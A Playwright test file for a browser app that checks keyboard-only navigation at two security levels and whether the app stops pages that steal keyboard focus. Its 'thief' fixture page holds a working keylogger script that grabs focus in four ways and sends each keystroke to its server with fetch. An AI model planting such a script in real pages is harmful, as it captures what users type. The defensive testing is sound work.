/** The whole app by keyboard, at both levels: what is typed goes to the page as soon as it has come, and shortcuts to the app. */
import {
  type BrowserContext,
  expect,
  type FrameLocator,
  type Locator,
  type Page,
  test,
} from "@playwright/test";
import { html, page as document } from "./farm/content/replies.ts";
import { startNetworkTo } from "./farm/journeys/in-app.ts";
import { type Farm, startFarm } from "./farm/network/farm.ts";
import { type Exchange, web } from "./farm/network/host.ts";
import { App } from "./fixtures/app.ts";
import type { RunningNetwork } from "./fixtures/network.ts";

let farm: Farm;
let network: RunningNetwork;
test.beforeAll(async () => {
  farm = await startFarm([web("desk.test", desk), web("shelf.test", shelf), web("thief.test", thief)]);
  network = await startNetworkTo(farm);
});
test.afterAll(async () => {
  await network.stop();
  await farm.close();
});

function desk(exchange: Exchange): void {
  const { pathname, searchParams } = exchange.url;
  if (pathname === "/found") return html(exchange, document("Found", `<h1>${searchParams.get("q")}</h1>`));
  const body = `<h1>Desk</h1><p><a href="https://shelf.test/books">Shelf</a> <a href="#drawer">Drawer</a></p>
    <form action="/found"><input name="q" aria-label="Search"><button>Go</button></form>
    <p style="height:3000px">ink and more ink</p><h2 id="drawer">The drawer</h2><p><a href="#">Top</a></p>`;
  return html(exchange, document("Desk", body));
}

function shelf(exchange: Exchange): void {
  html(exchange, document("Shelf", `<h1>Shelf</h1><p><a href="/other">Other</a></p>`));
}

const THIEVES = {
  "by its window": "focus()",
  "by a field": "field.focus()",
  "by a frame in it": "window[0].focus()",
  "by the boot page of its origin": `for (let i = 0; i < top.length; i++) try { top[i].document; if (top[i] !== window) top[i].focus(); } catch {}`,
};

/** A page that takes the keyboard again and again, and tells its server of each letter. */
function thief(exchange: Exchange): void {
  const steal = THIEVES[decodeURIComponent(exchange.url.search.slice(1)) as keyof typeof THIEVES];
  const body = `<h1>Thief</h1><input id="field"><iframe></iframe><script>
    const listen = (w) => w.addEventListener("keydown", ({ key }) => fetch("/heard?" + key), true);
    const all = () => [window, window[0], ...Array.from({ length: top.length }, (_, i) => top[i])];
    for (const w of all()) try { if (w !== window[0] || w.document) listen(w); } catch {}
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => { ${steal}; setTimeout(() => port2.postMessage(0), 4); };
    port2.postMessage(0);
  </script>`;
  html(exchange, document("Thief", body));
}

const heardByThief = (): number =>
  farm.visitsTo("thief.test").filter(({ path }) => path === "/heard?k").length;

/** One person at a keyboard. */
class Person {
  readonly page: Page;
  readonly shown: FrameLocator;

  private constructor(page: Page) {
    this.page = page;
    this.shown = page.frameLocator("[data-testid=page-frame][data-shown]");
  }

  static async at(context: BrowserContext, level: "safest" | "standard"): Promise<Person> {
    const app = await App.open(context, network.directory.url);
    await app.ready();
    const person = new Person(app.page);
    if (level === "standard") await person.#allowScripts();
    return person;
  }

  async press(...keys: readonly string[]): Promise<void> {
    for (const key of keys) await this.page.keyboard.press(key);
  }

  /** Waits for the next document, and not for the one that had the key: it may be gone before it can tell so. */
  async reload(): Promise<void> {
    const loaded = (): Promise<number> =>
      this.shown.locator("html").evaluate(() => performance.timeOrigin, undefined, { timeout: 5000 });
    const before = await loaded();
    this.page.keyboard.press("Control+r").catch(() => undefined);
    await expect.poll(() => loaded().catch(() => before)).not.toBe(before);
  }

  type(text: string): Promise<void> {
    return this.page.keyboard.type(text);
  }

  async go(address: string): Promise<void> {
    await this.press("Control+l");
    await expect(this.page.getByRole("combobox", { name: "Address of a site" })).toBeFocused();
    await this.type(address);
    await this.press("Enter");
  }

  /** Presses Tab until the focus is there; in another document as well. */
  async tabTo(element: Locator, key = "Tab"): Promise<void> {
    for (let stops = 0; stops < 25 && !(await isFocused(element)); stops++) await this.press(key);
    expect(await isFocused(element)).toBe(true);
  }

  heading(text: string): Promise<void> {
    return expect(this.shown.locator("h1")).toHaveText(text);
  }

  address(value: string | RegExp): Promise<void> {
    return expect(this.page.getByTestId("address")).toHaveValue(value);
  }

  /** Keys are the page's, as far as it knows. */
  async hasPage(): Promise<void> {
    const hasFocus = (): boolean => window.document.hasFocus();
    await expect.poll(() => this.shown.locator("html").evaluate(hasFocus)).toBe(true);
  }

  async #allowScripts(): Promise<void> {
    await this.press("Control+l");
    await this.tabTo(this.page.getByTestId("level"));
    await this.press("Enter");
    await expect(this.page.getByTestId("level-standard")).toBeEnabled();
    await this.tabTo(this.page.getByTestId("level-safest"));
    await this.press("ArrowDown", "Escape");
    await expect(this.page.getByTestId("level")).toHaveAccessibleName(/Standard/);
  }
}

function isFocused(element: Locator): Promise<boolean> {
  return element.evaluate(
    (one) => (one.getRootNode() as Document).activeElement === one && one.ownerDocument.hasFocus(),
  );
}

for (const level of ["safest", "standard"] as const) {
  test(`${level}: keys go to the first page of a tab, and to the next of another site`, async ({
    browser,
  }) => {
    for (let time = 0; time < 4; time++) {
      const context = await browser.newContext();
      const person = await Person.at(context, level);
      for (const [address, name] of [
        ["desk.test", "Desk"],
        ["shelf.test", "Shelf"],
      ] as const) {
        await person.go(address);
        await person.heading(name);
        await person.hasPage();
        await person.tabTo(person.shown.locator("a").first());
        await person.press("Control+Shift+U");
        await expect(person.page.getByTestId("confirm-identity")).toBeVisible();
        await person.press("Escape");
      }
      await person.reload();
      await person.heading("Shelf");
      await person.hasPage();
      await context.close();
    }
  });

  test(`${level}: a journey without a pointer`, async ({ context }) => {
    const person = await Person.at(context, level);
    const { page, shown } = person;
    await person.go("desk.test");
    await person.heading("Desk");
    await person.hasPage();

    await person.tabTo(shown.getByRole("link", { name: "Shelf" }));
    await expect(page.getByTestId("pointed")).toHaveText("shelf.test/books");
    await person.press("Enter");
    await person.heading("Shelf");
    await person.address("shelf.test/books");
    await person.hasPage();
    await person.press("Alt+ArrowLeft");
    await person.heading("Desk");
    await person.hasPage();

    await person.tabTo(shown.getByRole("link", { name: "Drawer" }));
    await expect(page.getByTestId("pointed")).toHaveText("desk.test/#drawer");
    await person.press("Enter");
    await expect(shown.locator("#drawer")).toBeInViewport();
    await person.address("desk.test/#drawer");
    await person.press("Alt+ArrowLeft");
    await person.address("desk.test");

    await person.tabTo(shown.getByLabel("Search"));
    await person.type("blue ink");
    await person.press("Enter");
    await person.heading("blue ink");
    await person.press("Alt+ArrowLeft");
    await person.heading("Desk");

    await person.press("Control+f");
    // The key goes from the page to the app by messages; letters at once would still be the page's.
    await expect(page.locator("tabor-find-bar input")).toBeFocused();
    await person.type("ink");
    await expect(page.getByTestId("found")).toHaveText("1 of 2");
    await person.press("Enter");
    await expect(page.getByTestId("found")).toHaveText("2 of 2");
    await person.press("Escape");
    await person.hasPage();

    await person.press("Alt+t");
    await expect(page.getByRole("tab")).toHaveCount(2);
    await expect(page.getByTestId("address")).toBeFocused();
    await person.type("shelf.test");
    await person.press("Enter");
    await expect(page.getByRole("tab", { selected: true })).toHaveText(/Shelf/);
    await person.heading("Shelf");
    await person.press("Alt+w");
    await expect(page.getByRole("tab", { selected: true })).toHaveText(/Desk/);

    await person.press("Control+i");
    await expect(page.getByTestId("hop")).toHaveCount(3);
    await person.press("Escape", "Control+Shift+U");
    await person.tabTo(page.getByTestId("confirm-identity"));
    await person.press("Enter");
    await expect(page.getByTestId("page")).toHaveAttribute("data-kind", "start");
    await expect(page.locator("iframe[data-tab]")).toHaveCount(0);
  });
}

const LETTERS = "k".repeat(40);

/** Of what is typed into the address bar, how many letters came to the page; none is lost. */
async function stolen(person: Person): Promise<number> {
  const before = heardByThief();
  const field = person.page.getByTestId("address");
  await person.page.keyboard.type(LETTERS, { delay: 40 });
  await expect(field).toBeFocused();
  const kept = (await field.inputValue()).length;
  await expect.poll(() => kept + heardByThief() - before).toBeGreaterThanOrEqual(LETTERS.length - 2);
  const heard = heardByThief() - before;
  test.info().annotations.push({ type: "letters", description: `${kept} kept, ${heard} heard by the page` });
  return LETTERS.length - kept;
}

for (const way of Object.keys(THIEVES))
  test(`a page that takes the keyboard ${way} is stopped, and letters go where they are typed`, async ({
    context,
  }) => {
    const person = await Person.at(context, "standard");
    const { page } = person;
    await person.go(`thief.test/?${encodeURIComponent(way)}`);
    await person.heading("Thief");
    await page.getByTestId("address").focus();
    expect(await stolen(person)).toBeLessThanOrEqual(2);
    await expect(page.getByTestId("page")).toHaveAttribute("data-kind", "ended");
    // The person may have it again.
    await page.getByTestId("again").click();
    await person.heading("Thief");
  });

test("a page that takes the keyboard from a tab that is not shown is stopped", async ({ context }) => {
  const person = await Person.at(context, "standard");
  const { page } = person;
  await person.go(`thief.test/?${encodeURIComponent("by its window")}`);
  await person.heading("Thief");
  const before = heardByThief();
  await page.getByTestId("new-tab").first().click();
  // Chromium may give the keyboard to nobody then, until the person clicks; the page has not got it.
  await page.keyboard.type(LETTERS, { delay: 40 });
  await page.getByRole("tab", { name: /thief/i }).click();
  await expect(page.getByTestId("page")).toHaveAttribute("data-kind", "ended");
  expect(heardByThief() - before).toBeLessThanOrEqual(2);
});

test("a page at Standard has the keyboard once a person presses it", async ({ context }) => {
  const person = await Person.at(context, "standard");
  const { page, shown } = person;
  await person.go("desk.test");
  await person.heading("Desk");
  await page.getByTestId("address").focus();
  await person.type("half an addr");
  const box = await page.locator("[data-testid=page-frame][data-shown]").boundingBox();
  if (box === null) throw new Error("no page is shown");
  await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
  await person.hasPage();
  await person.tabTo(shown.getByRole("link", { name: "Shelf" }));
  await person.press("Enter");
  await person.heading("Shelf");
});
